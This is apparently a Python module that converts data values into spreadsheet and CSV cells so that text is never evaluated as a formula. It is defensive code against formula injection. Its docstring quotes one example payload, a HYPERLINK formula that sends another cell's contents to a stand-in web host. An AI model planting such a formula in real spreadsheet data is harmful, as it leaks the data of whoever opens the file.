"""How a value from the data becomes a spreadsheet cell: decided once, here, for every writer.

A spreadsheet evaluates any cell that starts with ``=``, and both openpyxl and XlsxWriter (by
default) store any string that starts with ``=`` as a formula. A supplier named
``=HYPERLINK("http://x.example/?"&A2)`` would then send other cells to a web site when the
sheet is opened (OWASP calls it CSV or formula injection). So every writer of the toolkit
turns values into cells with this module:

* a string is ALWAYS text (XlsxWriter's ``write_string``, openpyxl's ``data_type = "s"``),
  whatever column it sits in and whatever it starts with; characters a spreadsheet cannot
  hold (control characters) become U+FFFD and carriage returns line feeds
  (:func:`clean_text`);
* a number is a number, a boolean a boolean, a date or datetime a date (with a date format
  unless the caller gives one), a missing value (None, NaN, NA, NaT) an empty cell; an
  infinite float is the text ``inf`` or ``-inf``.

A new workbook is written row by row with XlsxWriter (:class:`NewWorkbook`: constant memory,
fixed document properties, every string written as text); :func:`python_values` converts a
whole column at once. A workbook that is read, changed and saved again (the shift leads'
sheet of :mod:`pocmvp.case.water_line`) stays with openpyxl: :func:`set_data_cell` fills one
of its cells and :func:`save_reproducibly` saves it. :func:`csv_safe` neutralises text for a
CSV file (OWASP: a ``'`` before ``= + - @``, tab and carriage return), :func:`csv_safe_frame`
a whole table and :func:`write_csv` writes one.
:func:`check_row_count` refuses a table larger than a sheet can hold (:data:`EXCEL_MAX_ROWS`)
before anything is written. Both kinds of workbook pin their dates, author and zip
timestamps, so the same data give the same bytes.
"""

from __future__ import annotations

import datetime as dt
import io
import math
import tempfile
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import xlsxwriter
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, TIME_FORMATS
from openpyxl.writer.excel import ExcelWriter
from xlsxwriter.worksheet import Worksheet

EXCEL_MAX_ROWS = 1_048_576
"""Rows in one Excel sheet, the header included (Excel's and LibreOffice's limit)."""
DATE_FORMAT = "yyyy-mm-dd hh:mm"
"""The number format of a datetime cell when the writer gives none."""
CREATOR = "pocmvp"
FIXED_ZIP_TIME = (1980, 1, 31, 0, 0, 0)
"""The timestamp of every entry of a reproducible .xlsx: the date XlsxWriter gives each entry
of a workbook it writes, which :func:`save_reproducibly` gives openpyxl's too."""
DEFAULT_FORMATS = {dt.datetime: DATE_FORMAT, dt.date: "yyyy-mm-dd", dt.time: "h:mm:ss"}
"""The number format of a date, datetime or time cell when the writer gives none."""
XLSX_OPTIONS = {
    "constant_memory": True,  # each row goes to disk once the next starts: flat memory
    "strings_to_formulas": False,  # belt and braces: strings go through write_string anyway
    "strings_to_numbers": False,
    "strings_to_urls": False,
    "use_zip64": True,  # only where a part of the file needs it (over 4 GB)
}
"""XlsxWriter's options for every new workbook."""
CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a CSV field as a formula (OWASP)."""


class TooManyRowsError(ValueError):
    """A table has more rows than one spreadsheet sheet can hold."""

    def __init__(self, rows: int, *, header_rows: int = 1, sheet: str = "") -> None:
        self.rows = rows
        self.limit = EXCEL_MAX_ROWS
        where = f"sheet {sheet!r}" if sheet else "one sheet"
        super().__init__(
            f"{rows:,} rows (+{header_rows} header) do not fit in {where}: a spreadsheet holds "
            f"at most {EXCEL_MAX_ROWS:,} rows including the header; split the table (say, by "
            "month) or filter it first"
        )


def check_row_count(rows: int, *, header_rows: int = 1, sheet: str = "") -> int:
    """``rows`` if that many data rows (plus ``header_rows``) fit in a sheet, else raise
    :class:`TooManyRowsError` (a ValueError) naming the count and the limit."""
    if rows + header_rows > EXCEL_MAX_ROWS:
        raise TooManyRowsError(rows, header_rows=header_rows, sheet=sheet)
    return rows


def clean_text(text: str) -> str:
    """Text a spreadsheet can hold: control characters become U+FFFD, and a carriage return
    a line feed (an .xlsx is XML, whose readers turn one into the other anyway; doing it
    here means the text read back is the text written)."""
    if "\r" in text:
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)


def is_missing(value: object) -> bool:
    """None, NaN, pandas' NA or NaT: an empty cell."""
    if value is None or value is pd.NA or value is pd.NaT:
        return True
    return isinstance(value, float | np.floating) and math.isnan(value)


def cell_value(value: object) -> object:
    """The Python value a cell holds for ``value``: None (missing), str, bool, int, float,
    datetime or date. Anything else is shown as its text."""
    if type(value) is str:  # the commonest case first: a workbook writes millions of cells
        return clean_text(value)
    if is_missing(value):
        return None
    if isinstance(value, str):
        return clean_text(value)
    if isinstance(value, bool | np.bool_):
        return bool(value)
    if isinstance(value, int | np.integer):
        return int(value)
    if isinstance(value, float | np.floating):
        return float(value) if math.isfinite(value) else clean_text(str(value))
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, np.datetime64):
        value = pd.Timestamp(value).to_pydatetime()
    if isinstance(value, dt.datetime):
        # A spreadsheet has no time zones: keep the wall-clock time in UTC.
        if value.tzinfo is not None:
            value = value.astimezone(dt.UTC).replace(tzinfo=None)
        return value
    if isinstance(value, dt.date | dt.time):
        return value
    return clean_text(str(value))


def python_values(values: pd.Series) -> list:
    """:func:`cell_value` of every value of a column, fast for numeric and date columns."""
    if pd.api.types.is_bool_dtype(values) and not values.hasnans:
        return [bool(v) for v in values.to_numpy()]
    if pd.api.types.is_numeric_dtype(values) and not pd.api.types.is_bool_dtype(values):
        numbers = values.to_numpy(dtype="float64", na_value=np.nan)
        if pd.api.types.is_integer_dtype(values):
            return [None if math.isnan(v) else int(v) for v in numbers]
        return [None if math.isnan(v) else float(v) for v in numbers]
    return [cell_value(v) for v in values]


class NewWorkbook:
    """A new .xlsx for ``path``, written row by row with XlsxWriter, whose document dates are
    ``when`` and author :data:`CREATOR`. Use it in a ``with`` block: the file is written when
    the block ends, and not at all if it ends with an error.

    Write each sheet's rows in order (constant memory mode keeps only the current row):
    :meth:`write` puts a value from the data into a cell by the rules of this module,
    :meth:`formula` a formula. A formula is stored without a computed value, so a spreadsheet
    computes it on opening the file (LibreOffice would show a stored 0 as it is).
    """

    def __init__(self, path: str | Path, when: dt.datetime | dt.date) -> None:
        if not isinstance(when, dt.datetime):
            when = dt.datetime.combine(when, dt.time(0, 0))
        self.path = Path(path)
        self._scratch = tempfile.TemporaryDirectory(prefix="pocmvp-xlsx-")
        self._buffer = io.BytesIO()
        options = {**XLSX_OPTIONS, "tmpdir": self._scratch.name}
        self.book = xlsxwriter.Workbook(self._buffer, options)
        self.book.set_properties({"author": CREATOR, "created": cell_value(when)})
        self._styles: dict[tuple, object] = {}

    def __enter__(self) -> NewWorkbook:
        return self

    def __exit__(self, kind, error, traceback) -> None:
        try:
            if kind is None:
                self.book.close()
                self.path.parent.mkdir(parents=True, exist_ok=True)
                self.path.write_bytes(self._buffer.getvalue())
        finally:
            self._scratch.cleanup()

    def add_sheet(self, name: str):
        """A new sheet (an XlsxWriter worksheet) after the others."""
        return self.book.add_worksheet(name, worksheet_class=_Worksheet)

    def style(self, number_format: str | None = None, **properties):
        """The cell format with ``number_format`` and XlsxWriter's format ``properties`` (such
        as ``bold=True``), made once per workbook; None for a plain cell."""
        key = (number_format, *sorted(properties.items()))
        if key not in self._styles:
            if number_format is not None:
                properties["num_format"] = number_format
            self._styles[key] = self.book.add_format(properties) if properties else None
        return self._styles[key]

    def write(
        self, sheet, row: int, column: int, value: object, number_format=None, **style
    ) -> None:
        """Put ``value`` at (``row``, ``column``), both counted from 0, by the rules of this
        module; ``style`` as for :meth:`style`. Strings are text, never formulas."""
        if type(value) is not float or not math.isfinite(value):  # a finite float is ready
            value = cell_value(value)
        kind = type(value)
        if value is None or value == "":  # an empty cell, as openpyxl writes one
            return
        if kind is str:
            sheet.write_string(row, column, value, self.style(number_format, **style))
        elif kind is bool:
            sheet.write_boolean(row, column, value, self.style(number_format, **style))
        elif kind is float or kind is int:
            sheet.write_number(row, column, value, self.style(number_format, **style))
        else:  # a datetime, date or time: cell_value gives no other kind
            number_format = number_format or DEFAULT_FORMATS[kind]
            sheet.write_datetime(row, column, value, self.style(number_format, **style))

    def column_writer(self, sheet, column: int, values: pd.Series):
        """A function ``put(row, value)`` writing the items of ``values`` (as
        :func:`python_values` gives them, returned too) into ``column`` of ``sheet``: the
        same cells as :meth:`write`, the common kinds by the shortest way."""
        write = self.write
        write_number, write_string = sheet.write_number, sheet.write_string

        def put(row: int, value: object) -> None:
            kind = type(value)
            if (kind is float and math.isfinite(value)) or kind is int:
                write_number(row, column, value)
            elif kind is str and value:  # python_values cleaned it already
                write_string(row, column, value)
            elif value is not None:
                write(sheet, row, column, value)

        return put, python_values(values)

    def formula(self, sheet, row: int, column: int, formula: str, number_format=None, **style):
        """Put ``formula`` (starting with ``=``) at (``row``, ``column``), with no stored
        result: the spreadsheet computes it when it opens the file."""
        sheet.write_formula(row, column, formula, self.style(number_format, **style), "")


class _Worksheet(Worksheet):
    """XlsxWriter's worksheet, writing a formula as it is given (less its ``=``).

    XlsxWriter rewrites every formula for Excel 365's new functions (``XLOOKUP`` becomes
    ``_xlfn.XLOOKUP``) with some 30 regular expressions: most of the time it takes to write
    a workbook's column of formulas. The toolkit's formulas use none of those functions.
    """

    def _prepare_formula(self, formula: str, expand_future_functions: bool = False) -> str:
        return formula.removeprefix("=")


def set_data_cell(cell, value: object, number_format: str | None = None):
    """Put ``value`` into ``cell`` (an openpyxl sheet's cell) by the rules of this module;
    return the cell. Strings are stored as text, never as formulas."""
    if type(value) is not float or not math.isfinite(value):  # a finite float is ready
        value = cell_value(value)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # never a formula, even for "=HYPERLINK(...)"
    if number_format is not None:
        cell.number_format = number_format
    elif isinstance(value, dt.datetime) and cell.number_format == TIME_FORMATS[dt.datetime]:
        cell.number_format = DATE_FORMAT  # openpyxl's default shows seconds nobody records
    return cell


def csv_safe(text: object) -> object:
    """``text`` as a CSV field a spreadsheet will not evaluate: a ``'`` before a leading
    ``= + - @``, tab or carriage return (OWASP). Non-strings are returned unchanged."""
    if isinstance(text, str) and text.startswith(CSV_TRIGGERS):
        return "'" + text
    return text


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells went through :func:`csv_safe` (numbers, dates and
    missing values untouched), ready for ``to_csv``."""
    safe = frame.copy()
    for name in safe.columns:
        column = safe[name]
        if not (
            pd.api.types.is_numeric_dtype(column) or pd.api.types.is_datetime64_any_dtype(column)
        ):
            safe[name] = column.map(csv_safe).astype(column.dtype)
    return safe


def write_csv(frame: pd.DataFrame, target, **options) -> None:
    """Write ``frame`` as CSV to ``target`` (a path or a text buffer) with every text cell made
    safe (:func:`csv_safe_frame`), no index, and RFC 4180's CRLF line ends, which also make
    the writer quote a field holding a lone carriage return (with LF ends it would split the
    row). ``options`` go to :meth:`pandas.DataFrame.to_csv`."""
    options = {"index": False, "lineterminator": "\r\n", **options}
    csv_safe_frame(frame).to_csv(target, **options)


def fix_properties(book, when: dt.datetime | dt.date) -> None:
    """Pin the workbook's creation and modification dates to ``when`` and its author to
    :data:`CREATOR`, so writing the same data twice gives the same document properties."""
    if not isinstance(when, dt.datetime):
        when = dt.datetime.combine(when, dt.time(0, 0))
    when = cell_value(when)
    book.properties.created = when
    book.properties.modified = when
    book.properties.creator = CREATOR
    book.properties.lastModifiedBy = CREATOR


def save_reproducibly(book, path: str | Path, when: dt.datetime | dt.date) -> Path:
    """Save ``book`` to ``path`` with fixed properties (:func:`fix_properties`) and every zip
    entry stamped :data:`FIXED_ZIP_TIME`: the same workbook gives the same bytes."""
    fix_properties(book, when)
    buffer = io.BytesIO()
    # openpyxl's Workbook.save stamps "modified" with the clock: its writer, called directly,
    # keeps the fixed date.
    ExcelWriter(book, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, allowZip64=True)).save()
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            fixed = zipfile.ZipInfo(entry.filename, date_time=FIXED_ZIP_TIME)
            fixed.compress_type = zipfile.ZIP_DEFLATED
            fixed.external_attr = entry.external_attr
            target.writestr(fixed, source.read(entry.filename))
    path.write_bytes(out.getvalue())
    return path
